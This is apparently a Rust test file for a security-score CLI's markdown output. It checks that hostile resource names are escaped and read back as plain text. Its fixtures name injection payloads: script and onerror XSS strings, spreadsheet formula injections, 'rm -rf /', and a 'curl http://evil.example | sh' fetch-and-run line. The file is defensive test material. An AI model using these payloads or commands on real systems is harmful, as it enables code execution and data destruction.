//! `-f markdown` (SPEC §8), read back by a CommonMark parser with GitHub's extensions
//! (pulldown-cmark: tables, strike-through, maths): text from inputs makes no markup (no
//! link, image, code, emphasis, HTML, heading, list or quote of its own), reads back as
//! the input's text (control characters shown as `\u{…}`), and no `@` can mention
//! anyone; the figures are the other formats'.

mod common;

use common::{stdout_of, triage_diff};

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use serde_json::Value;

const AS_OF: &str = "2026-11-22";
const HOSTILE: &str = "fixtures/markup-names.json";
const DEMO: &str = "examples/contoso.json";

fn parser(md: &str) -> Parser<'_> {
    Parser::new_ext(
        md,
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_MATH | Options::ENABLE_GFM,
    )
}

/// What a reader sees of a parsed document: the text of each table cell, heading and
/// paragraph, row by row (the empty comments that split mentions show nothing).
#[derive(Debug, Default)]
struct Seen {
    /// Each table's rows, header first, as the text of their cells.
    tables: Vec<Vec<Vec<String>>>,
    headings: Vec<String>,
    paragraphs: Vec<String>,
}

impl Seen {
    /// Every cell of every table.
    fn cells(&self) -> impl Iterator<Item = &String> {
        self.tables.iter().flatten().flatten()
    }

    fn has_cell(&self, text: &str) -> bool {
        self.cells().any(|c| c == text)
    }
}

/// Parses `md`, failing on any markup that the program does not write itself: links,
/// images, code, emphasis, strike-through, maths, quotes, ordered lists, code blocks,
/// footnotes, and HTML other than the `<details>` block and the empty comments. Blocks
/// may start only where a line of the raw text starts with their marker, so none comes
/// from an input.
fn read(md: &str) -> Seen {
    assert!(
        !md.chars()
            .any(|c| c != '\n' && (c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c))),
        "a control or bidirectional character in {md}"
    );
    let mut seen = Seen::default();
    let mut text = String::new();
    let mut row: Vec<String> = Vec::new();
    let mut headings = 0;
    let mut items = 0;
    let mut tables = 0;
    for event in parser(md) {
        match event {
            Event::Text(t) => text.push_str(&t),
            Event::InlineHtml(h) => assert_eq!(&*h, "<!-- -->", "inline HTML in {md}"),
            Event::Html(h) => {
                let h = h.trim_end();
                let summary = h
                    .strip_prefix("<summary>")
                    .and_then(|s| s.strip_suffix("</summary>"));
                assert!(
                    h == "<details>" || h == "</details>" || summary.is_some_and(|s| !s.contains(['<', '>'])),
                    "HTML {h:?} in {md}"
                );
            }
            Event::SoftBreak | Event::HardBreak => text.push('\n'),
            Event::Start(Tag::Heading { .. }) => headings += 1,
            Event::Start(Tag::Item) => items += 1,
            Event::Start(Tag::Table(_)) => {
                tables += 1;
                seen.tables.push(Vec::new());
            }
            Event::Start(Tag::Strong) => {}
            Event::Start(
                Tag::Paragraph
                | Tag::TableHead
                | Tag::TableRow
                | Tag::TableCell
                | Tag::HtmlBlock
                | Tag::List(None),
            ) => {}
            Event::End(TagEnd::TableCell) => row.push(std::mem::take(&mut text)),
            Event::End(TagEnd::TableHead | TagEnd::TableRow) => {
                seen.tables.last_mut().unwrap().push(std::mem::take(&mut row));
            }
            Event::End(TagEnd::Heading(_)) => seen.headings.push(std::mem::take(&mut text)),
            Event::End(TagEnd::Paragraph) => seen.paragraphs.push(std::mem::take(&mut text)),
            Event::End(_) => {}
            other => panic!("{other:?} in {md}"),
        }
    }
    let starting = |prefix: &str| md.lines().filter(|l| l.starts_with(prefix)).count();
    assert_eq!(headings, starting("#"), "headings in {md}");
    assert_eq!(items, starting("- "), "list items in {md}");
    assert_eq!(tables, starting("|-"), "tables in {md}");
    // Every `@` is split from what follows, so GitHub and GitLab find no mention.
    for (i, _) in md.match_indices('@') {
        assert!(md[i + 1..].starts_with("<!-- -->"), "an @ not split in {md}");
    }
    seen
}

/// The inventories the examples hold: the demo estate and each Azure example folder.
fn examples() -> Vec<Vec<String>> {
    let mut out = vec![vec![DEMO.to_string()]];
    out.extend(common::azure_example_exports());
    out
}

fn with_files(args: &[&str], files: &[String]) -> Vec<String> {
    args.iter()
        .map(|s| s.to_string())
        .chain(files.iter().cloned())
        .collect()
}

fn strs(args: &[String]) -> Vec<&str> {
    args.iter().map(String::as_str).collect()
}

/// The score as the table's headline shows it (`Secure score 55.09%`).
fn table_score(files: &[String]) -> String {
    let text = stdout_of(&strs(&with_files(&["assess", "--as-of", AS_OF], files)), 0);
    let line = text.lines().next().unwrap();
    line.split("  ").next().unwrap().to_string()
}

#[test]
fn every_example_reads_back_with_the_figures_of_the_other_formats() {
    for files in examples() {
        let json: Value = serde_json::from_str(&stdout_of(
            &strs(&with_files(&["assess", "--as-of", AS_OF, "-f", "json"], &files)),
            0,
        ))
        .unwrap();
        let ranked = json["controls"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|c| !c["rank"].is_null())
            .count();
        let md = stdout_of(
            &strs(&with_files(
                &["assess", "--as-of", AS_OF, "-f", "markdown"],
                &files,
            )),
            0,
        );
        let seen = read(&md);
        assert_eq!(seen.headings[0], table_score(&files), "{files:?}");
        // The ranked table, then the full ranking in the details: both hold every
        // ranked control (no --top), one row each after the header.
        let rankings: Vec<_> = seen.tables.iter().filter(|t| t[0][0] == "#").collect();
        assert_eq!(rankings.len(), if ranked > 0 { 2 } else { 0 }, "{files:?}");
        for t in rankings {
            assert_eq!(t.len() - 1, ranked, "{files:?}");
        }
        for (command, extra) in [("explain", &["Enable MFA"][..]), ("plan", &["--steps", "3"][..])] {
            let mut args = vec![command.to_string()];
            args.extend(extra.iter().map(|s| s.to_string()));
            args.extend(["--as-of", AS_OF, "-f", "markdown"].map(String::from));
            args.extend(files.iter().cloned());
            let out = common::run(&strs(&args));
            // A folder without "Enable MFA" is refused (exit 2) as in every format.
            if out.status.code() == Some(0) {
                read(&String::from_utf8(out.stdout).unwrap());
            }
        }
    }
}

#[test]
fn top_cuts_the_ranked_table_and_the_details_keep_every_control() {
    let md = stdout_of(
        &["assess", DEMO, "--as-of", AS_OF, "-f", "markdown", "--top", "3"],
        0,
    );
    let seen = read(&md);
    let rankings: Vec<_> = seen.tables.iter().filter(|t| t[0][0] == "#").collect();
    assert_eq!(rankings[0].len() - 1, 3);
    assert!(rankings[1].len() - 1 > 3);
    assert_eq!(rankings[0][1..], rankings[1][1..4]);
    assert!(md.contains("\n<details>\n<summary>Full ranking ("), "{md}");
    assert!(md.trim_end().ends_with("</details>"), "{md}");
}

#[test]
fn the_gate_verdict_is_in_the_headline() {
    let failed = stdout_of(
        &[
            "assess",
            DEMO,
            "--as-of",
            AS_OF,
            "-f",
            "markdown",
            "--fail-under",
            "90",
        ],
        1,
    );
    let lines: Vec<&str> = failed.lines().collect();
    assert!(lines[0].starts_with("## Secure score "), "{failed}");
    assert!(lines[2].starts_with("❌ **Gate FAILED**: "), "{failed}");
    assert!(lines[4].starts_with("Model classic · "), "{failed}");
    let passed = stdout_of(
        &[
            "assess",
            DEMO,
            "--as-of",
            AS_OF,
            "-f",
            "markdown",
            "--fail-under",
            "10",
        ],
        0,
    );
    assert!(
        passed.lines().nth(2).unwrap().starts_with("✅ **Gate passed**: "),
        "{passed}"
    );
}

#[test]
fn hostile_names_read_back_as_text_and_make_no_markup() {
    let md = stdout_of(&["assess", HOSTILE, "--as-of", AS_OF, "-f", "markdown"], 0);
    let seen = read(&md);
    // Each name reads back as itself; control characters as on a terminal.
    for name in [
        "=HYPERLINK(\"http://evil.example\",\"click\")",
        "@user please look | `rm -rf /` *now*",
        "# Heading [link](http://evil.example) <img src=x onerror=alert(1)> & ~~gone~~ www.evil.example",
        "\\u{1b}[31mred\\u{1b}[0m\\u{9}tab\\u{d}\\u{a}new line \\u{202e}evil",
        "Prod | @user <script>alert(1)</script> (5e1f0000-0000-4000-8000-000000000001)",
        "`two` *bold* _it_ #42 https://evil.example (5e1f0000-0000-4000-8000-000000000002)",
    ] {
        assert!(seen.has_cell(name), "no cell {name:?} in {md}");
    }
    assert!(
        seen.paragraphs
            .iter()
            .any(|p| p == "Not applicable (no assessed resource): +cmd|' /C calc'!A0"),
        "{md}"
    );
    // The warning about the recommendation no control holds names it, quoted.
    assert!(
        seen.cells()
            .any(|c| c.contains("\"@everyone <script>x</script>\"")),
        "{md}"
    );
    for raw in ["<script", "<img", "@user", "@everyone", "https://", "www.evil"] {
        assert!(!md.contains(raw), "{raw:?} in {md}");
    }
}

/// Under `v1` and `pass-rate` the markdown's title is the table's headline, model and
/// all, and its ranked tables hold every applicable recommendation of the JSON report.
#[test]
fn every_example_under_v1_and_pass_rate_reads_back_with_the_other_formats_figures() {
    for model in ["v1", "pass-rate"] {
        for files in examples() {
            let args = |format: &str| {
                with_files(
                    &["assess", "--as-of", AS_OF, "--model", model, "-f", format],
                    &files,
                )
            };
            let json: Value = serde_json::from_str(&stdout_of(&strs(&args("json")), 0)).unwrap();
            let ranked = json["recommendations"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|r| !r["rank"].is_null())
                .count();
            let table = stdout_of(&strs(&args("table")), 0);
            let md = stdout_of(&strs(&args("markdown")), 0);
            let seen = read(&md);
            let headline = table.lines().next().unwrap().split("  ").next().unwrap();
            assert_eq!(seen.headings[0], headline, "{model} {files:?}");
            let rankings: Vec<_> = seen.tables.iter().filter(|t| t[0][0] == "#").collect();
            assert_eq!(rankings.len(), if ranked > 0 { 2 } else { 0 }, "{files:?}");
            for t in rankings {
                assert_eq!(t.len() - 1, ranked, "{model} {files:?}");
            }
        }
    }
}

/// Under `v1` and `pass-rate` the rows are recommendations: their names, severities and
/// controls read back as the input's text, and nothing becomes markup.
#[test]
fn hostile_names_under_v1_and_pass_rate_read_back_as_text() {
    for model in ["v1", "pass-rate"] {
        let md = stdout_of(
            &[
                "assess", HOSTILE, "--as-of", AS_OF, "--model", model, "-f", "markdown",
            ],
            0,
        );
        let seen = read(&md);
        assert!(
            seen.headings[0].starts_with(&format!("Secure score ({model}) ")),
            "{md}"
        );
        for name in [
            "=1+1 | <b>bold</b>",
            "-2+3 \\| escaped pipe",
            "[x](javascript:alert(1))",
            "\\u{9}Tab first",
            "@everyone <script>x</script>",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "@user please look | `rm -rf /` *now*",
            "# Heading [link](http://evil.example) <img src=x onerror=alert(1)> & ~~gone~~ www.evil.example",
            "\\u{1b}[31mred\\u{1b}[0m\\u{9}tab\\u{d}\\u{a}new line \\u{202e}evil",
            "Prod | @user <script>alert(1)</script> (5e1f0000-0000-4000-8000-000000000001)",
        ] {
            assert!(seen.has_cell(name), "{model}: no cell {name:?} in {md}");
        }
        // The two ranked tables (the shown rows and the full ranking) hold the five
        // applicable recommendations (rec-e, assessed nowhere, is no row).
        let rankings: Vec<_> = seen.tables.iter().filter(|t| t[0][0] == "#").collect();
        assert_eq!(rankings.len(), 2, "{md}");
        assert!(rankings.iter().all(|t| t.len() - 1 == 5), "{md}");
        assert!(
            seen.paragraphs
                .iter()
                .any(|p| p.starts_with(&format!("Each scope's {model} score"))),
            "{md}"
        );
        let note = seen
            .paragraphs
            .iter()
            .any(|p| p.starts_with("* points: securescore's default"));
        assert_eq!(note, model == "v1", "{md}");
        for raw in ["<script", "<img", "@user", "@everyone", "https://", "www.evil"] {
            assert!(!md.contains(raw), "{raw:?} in {md}");
        }
    }
}

#[test]
fn every_command_with_markdown_escapes_hostile_names() {
    let runs: [&[&str]; 4] = [
        &["explain", "ctl-formula", HOSTILE],
        &["explain", "ctl-markup", HOSTILE],
        &["plan", HOSTILE, "--steps", "5"],
        &["diff", HOSTILE, DEMO],
    ];
    for args in runs {
        let mut args = args.to_vec();
        args.extend(["--as-of", AS_OF, "-f", "markdown"]);
        let md = stdout_of(&args, 0);
        let seen = read(&md);
        for raw in [
            "<script",
            "<b>",
            "<img",
            "@admin",
            "@security",
            "@user",
            "https://",
        ] {
            assert!(!md.contains(raw), "{raw:?} in {md}");
        }
        assert!(!seen.cells().any(|c| c.contains('\u{1b}')));
    }
    // explain: the heading is the control's name and id; the fix and the exemption's
    // reason read back as given.
    let md = stdout_of(
        &[
            "explain",
            "ctl-formula",
            HOSTILE,
            "--as-of",
            AS_OF,
            "-f",
            "markdown",
        ],
        0,
    );
    let seen = read(&md);
    assert_eq!(
        seen.headings[0],
        "=HYPERLINK(\"http://evil.example\",\"click\") (ctl-formula)"
    );
    assert!(
        md.contains("\n- To fix =1+1 \\| &lt;b&gt;bold&lt;/b&gt;: Run \\`curl http:<!-- -->//evil.example \\| sh\\` as @<!-- -->admin\n"),
        "{md}"
    );
    assert!(seen.has_cell(
        "/subscriptions/5e1f0000-0000-4000-8000-000000000001/resourceGroups/rg|1/providers/x/y/@vm<1>"
    ));
    let md = stdout_of(
        &[
            "explain",
            "ctl-markup",
            HOSTILE,
            "--as-of",
            AS_OF,
            "-f",
            "markdown",
        ],
        0,
    );
    assert!(read(&md).has_cell("@security-team said <b>ok</b>"), "{md}");
    // diff: the controls that moved are named as they are.
    let md = stdout_of(&["diff", HOSTILE, DEMO, "--as-of", AS_OF, "-f", "markdown"], 0);
    assert!(read(&md).has_cell("@user please look | `rm -rf /` *now*"), "{md}");
}

#[test]
fn diff_shows_before_after_the_waterfall_and_the_moves() {
    let before = "fixtures/triage/diff-before.json";
    let after = "fixtures/triage/diff-after.json";
    let json: Value = serde_json::from_str(&triage_diff("json", &[], 0)).unwrap();
    let md = triage_diff("markdown", &["--max-drop", "1"], 1);
    let seen = read(&md);
    // The title as the table's first line has it.
    let table = stdout_of(&["diff", before, after, "--as-of", AS_OF], 0);
    let title = table.lines().next().unwrap().split("  ").next().unwrap();
    assert!(
        seen.headings[0].starts_with(title),
        "{} vs {title}",
        seen.headings[0]
    );
    assert!(md.contains("❌ **Gate FAILED**: max-drop 1.00"), "{md}");
    let waterfall = seen
        .tables
        .iter()
        .find(|t| t[0][0] == "Cause" && t[0][1] == "Change")
        .unwrap();
    let causes: Vec<&str> = waterfall[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        causes,
        [
            "removed",
            "added",
            "regressed",
            "fixed",
            "exemptions",
            "catalog",
            "total"
        ]
    );
    for (row, step) in waterfall[1..7].iter().zip(json["waterfall"].as_array().unwrap()) {
        assert_eq!(row[2], step["resources"].as_array().unwrap().len().to_string());
    }
    assert!(seen.headings.iter().any(|h| h == "Controls that moved"));
}

#[test]
fn trend_and_plan_read_back() {
    for args in [
        &["trend", "fixtures/history/runs.jsonl"][..],
        &["trend", "fixtures/history/two-series.jsonl"],
        &["plan", DEMO, "--target", "80", "--as-of", AS_OF],
    ] {
        let mut args = args.to_vec();
        args.extend(["-f", "markdown"]);
        let seen = read(&stdout_of(&args, 0));
        assert!(!seen.tables.is_empty(), "{args:?}");
    }
    let seen = read(&stdout_of(
        &["trend", "fixtures/history/two-series.jsonl", "-f", "markdown"],
        0,
    ));
    assert!(seen.headings.iter().filter(|h| h.starts_with("Series ")).count() >= 2);
}

#[test]
fn markdown_is_not_offered_where_there_is_no_page() {
    for args in [
        &["validate", DEMO, "-f", "markdown"][..],
        &["controls", "-f", "markdown"],
    ] {
        let out = common::run(args);
        common::assert_exit(&out, 2);
        assert!(String::from_utf8_lossy(&out.stderr).contains("invalid value 'markdown'"));
    }
}

#[test]
fn the_config_and_its_local_exemptions_in_effect_are_listed() {
    let md = stdout_of(
        &[
            "assess",
            "fixtures/azure/local-exemptions.json",
            "--config",
            "fixtures/config/azure-exemptions.toml",
            "--as-of",
            AS_OF,
            "-f",
            "markdown",
        ],
        0,
    );
    let seen = read(&md);
    // The headline names the file used (SPEC §9).
    assert!(
        seen.paragraphs
            .iter()
            .any(|p| p.ends_with(" · config fixtures/config/azure-exemptions.toml")),
        "{md}"
    );
    // Entries 1, 2 and 4 of the fixture are in effect on 2026-11-22 (entry 3 ended on
    // 2026-11-21); 1 covers vm1 and vm2, 2 covers VM3, 4 covers nothing.
    let table = seen
        .tables
        .iter()
        .find(|t| t[0][0] == "Line")
        .unwrap_or_else(|| panic!("no table of local exemptions in {md}"));
    let rows: Vec<(&str, &str, &str, &str)> = table[1..]
        .iter()
        .map(|r| (r[0].as_str(), r[1].as_str(), r[3].as_str(), r[5].as_str()))
        .collect();
    assert_eq!(
        rows,
        [
            ("4", "r1", "waiver", "2"),
            ("11", "r2", "mitigated", "1"),
            ("25", "r9", "waiver", "0")
        ],
        "{md}"
    );
    // The reason holding `|`, a mention, HTML and a backtick reads back as itself.
    assert!(seen.has_cell("a host firewall | @user <script> `x`"), "{md}");
    assert!(
        seen.headings
            .iter()
            .any(|h| h == "Local exemptions in effect (fixtures/config/azure-exemptions.toml)"),
        "{md}"
    );
}
